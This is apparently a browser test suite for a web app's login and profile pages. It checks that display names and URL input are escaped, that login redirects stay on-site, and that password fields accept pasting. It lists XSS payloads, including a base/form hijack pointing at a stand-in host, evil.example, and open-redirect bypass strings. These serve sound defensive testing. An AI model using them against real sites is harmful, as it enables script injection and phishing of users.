// I-09, I-10: names and addresses that would like to be code. A-19: what a password field must allow.
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { describeInChromium } from '../support/in-chromium.ts'
import type { Site } from '../support/site.ts'
import { GOOD_PASSWORD } from '../support/visitor.ts'
import { openEnvironment, openThirdPartySite, type ThirdPartySite } from './environment.ts'
import { enter, WITH_AND_WITHOUT_SCRIPTS } from './person.ts'

/** Each fits into a display name. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '--><svg onload=alert(1)>',
  '\'"><img src=x onerror=alert(1)>',
  '" autofocus onfocus=alert(1) x="',
  "' onmouseover='alert(1)",
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">me</a>',
  '<math><mtext></p><style><img src=x onerror=alert(1)>',
  '<base href=//evil.example><form action=//evil.example>',
  '<%= process.env %><%~ it %>#{7*7}{{7*7}}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#x3C;img src=x onerror=alert(1)&#x3E;',
  'javascript:alert(1)//',
  '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
  '<img src=x onerror=alert(1)>',
]

describeInChromium((browser) => {
  let site: Site
  let thirdParty: ThirdPartySite
  beforeAll(async () => {
    site = await openEnvironment()
    thirdParty = await openThirdPartySite({ '/': 'You have been led astray' })
  })
  afterAll(async () => {
    await thirdParty?.close()
    await site?.close()
  })

  test('I-09 a display name is text wherever it is shown', { timeout: 60_000 }, async () => {
    const person = await enter(browser(), site.base)
    await person.become(site, 'mallory')
    await person.open('/profile')
    for (const payload of PAYLOADS) {
      await person.displayName.fill(payload)
      await person.press('Save')
      expect(await person.heading.textContent(), payload).toBe(payload)
      expect(await person.displayName.inputValue(), payload).toBe(payload)
    }
    await person.open('/')
    expect(await person.page.getByRole('main').locator('strong').textContent()).toBe(PAYLOADS.at(-1))
    for (const path of ['/account/security', '/account/password', '/reauthenticate', '/logout', '/nothing'])
      await person.open(path)
    expect(person.problems).toEqual([])
    await person.leave()
  })

  test('I-09 typed text, and text from a URL, comes back as text', { timeout: 60_000 }, async () => {
    const person = await enter(browser(), site.base)
    for (const payload of PAYLOADS) {
      const escaped = encodeURIComponent(payload)
      await person.open(`/login?returnTo=/${escaped}&notice=${escaped}&${escaped}=1`)
      expect(await person.page.getByRole('status').count(), payload).toBe(0)
      await person.fillLogin(payload, payload)
      expect(await person.page.getByLabel('Username').inputValue(), payload).toBe(payload)
    }
    const all = PAYLOADS.map(encodeURIComponent).join('/')
    for (const path of [`/nothing/${all}?${all}`, `/account/sessions/${all}/end`]) {
      await person.open(path)
      expect(await person.heading.textContent()).toBe('There is nothing here')
    }
    expect(person.problems).toEqual([])
    await person.leave()
  })

  test('I-10 a login leads nowhere but into this site', { timeout: 60_000 }, async () => {
    const { host } = new URL(thirdParty.base)
    const away = [
      thirdParty.base,
      `//${host}`,
      `///${host}`,
      `/\\${host}`,
      `\\\\${host}`,
      `\\/${host}`,
      `http:${host}`,
      `http:/${host}`,
      `/\t/${host}`,
      `/\n/${host}`,
      `\t//${host}`,
      ` //${host}`,
      `/..//${host}`,
      `/.//${host}`,
      `/%2e%2e//${host}`,
      `@${host}`,
      `//${new URL(site.base).host}@${host}`,
      `/\uFF0F${host}`,
      'javascript:alert(1)',
      'data:text/html,<script>alert(1)</script>',
    ]
    const person = await enter(browser(), site.base)
    await site.visitor().register('anna')
    for (const to of away) {
      await person.context.clearCookies()
      await person.open(`/login?returnTo=${encodeURIComponent(to)}`)
      await person.fillLogin('anna')
      // `path` fails if the browser has left the site.
      expect(person.path, to).not.toMatch(/^\/login/)
      await person.open(`/login?returnTo=${encodeURIComponent(to)}`)
      expect(person.path, to).not.toMatch(/^\/login/)
    }
    expect(person.problems).toEqual([])
    await person.leave()
  })

  describe.each(WITH_AND_WITHOUT_SCRIPTS)('$scripts', ({ javaScriptEnabled }) => {
    test('A-19 a person pastes a password, and a password manager knows every field', async () => {
      const person = await enter(browser(), site.base, { javaScriptEnabled })
      await person.become(site, javaScriptEnabled ? 'paste' : 'paste-plain')
      const fields = async (path: string) => {
        await person.open(path)
        const inputs = await person.page.getByRole('main').locator('input[autocomplete]').all()
        const reported = inputs.map(async (input) =>
          [await input.getAttribute('type'), await input.getAttribute('autocomplete')].join(' '),
        )
        return Promise.all(reported)
      }
      expect(await fields('/reauthenticate')).toEqual(['text username', 'password current-password'])
      await person.context.clearCookies()
      expect(await fields('/register')).toEqual(['text username', 'text nickname', 'text email', 'password new-password'])
      expect(await fields('/login')).toEqual(['text username', 'password current-password'])

      const username = person.page.getByLabel('Username')
      await username.fill(GOOD_PASSWORD)
      await username.press('ControlOrMeta+A')
      await username.press('ControlOrMeta+X')
      await person.password.press('ControlOrMeta+V')
      expect(await person.password.inputValue()).toBe(GOOD_PASSWORD)
      expect(await username.inputValue()).toBe('')
      await person.leave()
    })
  })
})
